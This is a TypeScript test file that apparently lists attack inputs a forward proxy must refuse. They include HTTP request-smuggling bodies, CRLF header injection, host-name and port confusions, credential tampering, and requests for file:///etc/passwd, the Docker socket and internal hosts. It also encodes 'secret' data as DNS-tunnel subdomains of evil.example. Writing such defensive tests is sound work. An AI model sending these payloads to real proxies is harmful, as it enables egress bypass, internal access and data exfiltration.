import { hostsInside } from '@clawster/outward/testing/hosts-inside';
import { basic, connectTo, type Credentials, get } from './wire.ts';

/** Bytes that are said to the proxy, and what they try. None may be answered by anybody but the proxy itself. */
export type Attack = { name: string; bytes: string | Buffer };

/** Everything that is tried in one exchange with the proxy. */
export function attacks({ own, other }: Credentials): Attack[] {
  const auth = `Proxy-Authorization: ${basic(own)}`;
  const to = (authority: string) => ({ name: `CONNECT ${authority}`, bytes: connectTo(authority, [auth]) });
  const from = (url: string) => ({ name: `GET ${url}`, bytes: get(url, [auth]) });
  return [
    ...hostsInside.flatMap((host) => [to(`${host}:443`), from(`http://${host}/`)]),
    ...names.flatMap((host) => [to(`${host}:443`), from(`http://${host}/`)]),
    ...ports.map((port) => to(`api.allowed.example${port}`)),
    ...leadInside.flatMap((host) => [to(`${host}:443`), from(`http://${host}/`)]),
    ...strangers({ own, other }),
    ...urls.map(from),
    ...smuggling(auth),
    ...otherProtocols,
  ];
}

/** Allowed, and leading inside once they are looked up. */
const leadInside = ['inside', 'metadata', 'loopback', 'mixed', 'nowhere'].map((name) => `${name}.example`);

const names = [
  ['evil.example', 'two.example', 'dns.google', 'cloudflare-dns.com', 'one.one.one.one', '1.1.1.1', '8.8.8.8'],
  ['[2606:4700:4700::1111]', '[2600:15::2]', '11.15.0.2', '11.15.0.3', '184487938', '0x0b0f0002', '11.983042'],
  ['api.allowed.example.evil.example', 'api.allowed.example@evil.example', 'evil.example@api.allowed.example'],
  ['evil.example/api.allowed.example', 'evil.example#api.allowed.example', 'evil.example?api.allowed.example'],
  ['evil.example\\api.allowed.example', 'evil.example%00.wild.example', 'evil.example%2f.wild.example'],
  ['evil.example\u0000.wild.example', 'evil.example\t.wild.example', 'evil.example;.wild.example'],
  ['wild.example', '.wild.example', '*.wild.example', 'xwild.example', 'a.wild.example.evil.example'],
  ['a..wild.example', '-.wild.example', 'a_b.wild.example', 'a.wild.example.', 'a.wild.example..'],
  ['a.w\u0131ld.example', 'a.wi\u217cd.example', 'a.wild\u3002example', 'a\u00ad.wild.example', '\uff41.wild.example'],
  ['api.allowed.example:443@evil.example', 'evil.example:443,api.allowed.example', 'evil.example,api.allowed.example'],
  Array.from({ length: 20 }, (_, at) => `${Buffer.from(`secret ${at}`).toString('hex')}.tunnel.evil.example`),
  ['a'.repeat(64), 'a'.repeat(300), `${'a.'.repeat(150)}x`].map((long) => `${long}.wild.example`),
].flat();

const ports = [
  [':22', ':25', ':53', ':853', ':4500', ':8443', ':3128', ':0', ':65536', ':66979', ':-443', ':+443', ':0443'],
  [':443x', ':0x1bb', ':44e1', ':443:22', ':', '', ':443/', ':443#', ':443?', ':4\u06634'],
].flat();

const urls = [
  ['http://api.allowed.example@evil.example/', 'http://api.allowed.example:80@evil.example/'],
  ['http://evil.example\\@api.allowed.example/', 'http://evil.example#@api.allowed.example/'],
  ['http:evil.example/', 'http:/evil.example/', 'http:///evil.example/', 'http:\\\\evil.example/', '//evil.example/'],
  ['https://api.allowed.example/', 'ftp://api.allowed.example/', 'ws://api.allowed.example/', 'file:///etc/passwd'],
  ['gopher://api.allowed.example:80/', 'unix:/var/run/docker.sock', 'http+unix://%2Fvar%2Frun%2Fdocker.sock/info'],
  [
    '/',
    '*',
    'http://',
    'http://:80/',
    'http://?',
    'http://api.allowed.example:443x/',
    'http://api.allowed.example:81/',
  ],
].flat();

function strangers({ own, other }: Credentials): Attack[] {
  const [ownId = '', ownSecret = ''] = own.split(':');
  const [otherId = '', otherSecret = ''] = other.split(':');
  const credentials = [
    [other, `${ownId}:${otherSecret}`, `${otherId}:${ownSecret}`, `${ownId}:`, `:${ownSecret}`, ownId, ` ${own}`],
    [`${ownId}:${ownSecret}x`, `${ownId}:${ownSecret.slice(1)}`, `${ownId}:${ownSecret}\u0000`, ':', ''],
    ['__proto__:x', 'constructor:x', 'toString:x'],
  ].flat();
  const values = [
    `Basic ${own}`,
    `Bearer ${ownSecret}`,
    `Digest ${own}`,
    basic(own).slice(0, -4),
    `${basic(own)},${basic(own)}`,
  ];
  const said = [...credentials.map(basic), ...values].map((value) => [`Proxy-Authorization: ${value}`]);
  const elsewhere = [[`Authorization: ${basic(own)}`], [`Cookie: ${own}`], [`X-Forwarded-For: 172.30.16.2`]];
  const twice = [[`Proxy-Authorization: ${basic(own)}`, `Proxy-Authorization: ${basic(other)}`]];
  return [[], ...said, ...elsewhere, ...twice].flatMap((headers, at) => [
    { name: `credential ${at} for its own host`, bytes: connectTo('api.allowed.example:443', headers) },
    { name: `credential ${at} for the other's host`, bytes: connectTo('two.example:443', headers) },
    { name: `credential ${at} by http`, bytes: get('http://api.allowed.example/', headers) },
  ]);
}

function smuggling(auth: string): Attack[] {
  const second = `GET http://evil.example/smuggled HTTP/1.1\r\nHost: evil.example\r\n${auth}\r\n\r\n`;
  const post = (headers: string[], body: string) =>
    [`POST http://api.allowed.example/ HTTP/1.1`, 'Host: api.allowed.example', auth, ...headers, '', body].join('\r\n');
  const ask = (...headers: string[]) =>
    ['GET http://api.allowed.example/ HTTP/1.1', auth, ...headers, '', ''].join('\r\n');
  return [
    ask('Host: api.allowed.example', 'Host: evil.example'),
    ask('Host: evil.example', 'Host: api.allowed.example'),
    ask('Host: evil.example'),
    ask('Host: api.allowed.example:8080'),
    ask('Host: api.allowed.example evil.example'),
    ask('Host:'),
    ask('Host : evil.example'),
    ask(' Host: evil.example'),
    ask('Host: api.allowed.example', 'Transfer-Encoding: chunked', 'Content-Length: 4'),
    post(['Content-Length: 6', 'Transfer-Encoding: chunked'], `0\r\n\r\n${second}`),
    post(['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], `0\r\n\r\n${second}`),
    post(['Transfer-Encoding: xchunked'], second),
    post(['Transfer-Encoding: chunked, identity'], second),
    post(['Transfer-Encoding : chunked'], `0\r\n\r\n${second}`),
    post(['Transfer-Encoding:\x0bchunked'], second),
    post(['Content-Length: 0', 'Content-Length: 5'], second),
    post(['Content-Length: +5'], second),
    post(['Content-Length: 5, 5'], second),
    post(['Content-Length: -1'], second),
    post(['Transfer-Encoding: chunked'], `-1\r\n${second}`),
    post(['Transfer-Encoding: chunked'], `0x5\r\nhello\r\n0\r\n\r\n`),
    post(['Transfer-Encoding: chunked'], `5\nhello\n0\n\n${second}`),
    post(['Transfer-Encoding: chunked'], `ffffffffffffffffff\r\n${second}`),
    ask('Host: api.allowed.example', 'X: a\rHost: evil.example'),
    ask('Host: api.allowed.example', 'X: a\nHost: evil.example'),
    ask('Host: api.allowed.example', 'X: a\u0000b'),
    `GET http://api.allowed.example/\r\nHost: evil.example HTTP/1.1\r\nHost: api.allowed.example\r\n${auth}\r\n\r\n`,
    `GET http://api.allowed.example/ HTTP/1.1 HTTP/1.1\r\nHost: evil.example\r\n${auth}\r\n\r\n`,
    `CONNECT api.allowed.example:443\r\nHost: evil.example:443 HTTP/1.1\r\n${auth}\r\n\r\n`,
    `CONNECT api.allowed.example:443 evil.example:443 HTTP/1.1\r\n${auth}\r\n\r\n`,
    `CONNECT  evil.example:443 HTTP/1.1\r\nHost: api.allowed.example:443\r\n${auth}\r\n\r\n`,
    `CONNECT api.allowed.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n${auth}\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: evil.example\r\n${auth}\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: api.allowed.example\r\n${auth}\r\n\r\n`,
    `GET http://api.allowed.example/ HTTP/0.9\r\n\r\n`,
    `GET http://api.allowed.example/\r\n`,
    `connect evil.example:443 HTTP/1.1\r\nHost: api.allowed.example:443\r\n${auth}\r\n\r\n`,
    `\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n${auth}\r\n\r\n`,
    `GET http://api.allowed.example/ HTTP/1.1\r\nHost: api.allowed.example\r\nX: ${'a'.repeat(40_000)}\r\n${auth}\r\n\r\n`,
  ].map((bytes, at) => ({ name: `smuggling ${at}`, bytes }));
}

const otherProtocols: Attack[] = [
  ['SOCKS4', Buffer.from([4, 1, 1, 187, 11, 15, 0, 3, 0])],
  ['SOCKS5', Buffer.from([5, 1, 0, 5, 1, 0, 1, 11, 15, 0, 3, 1, 187])],
  ['TLS', Buffer.from([22, 3, 1, 0, 5, 1, 0, 0, 1, 0])],
  ['HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['DNS', Buffer.from('001201000001000000000000046576696c076578616d706c650000010001', 'hex')],
  ['SSH', 'SSH-2.0-OpenSSH_9.9\r\n'],
  ['nothing', Buffer.alloc(64)],
].map(([name, bytes]) => ({ name: String(name), bytes: bytes as Buffer | string }));
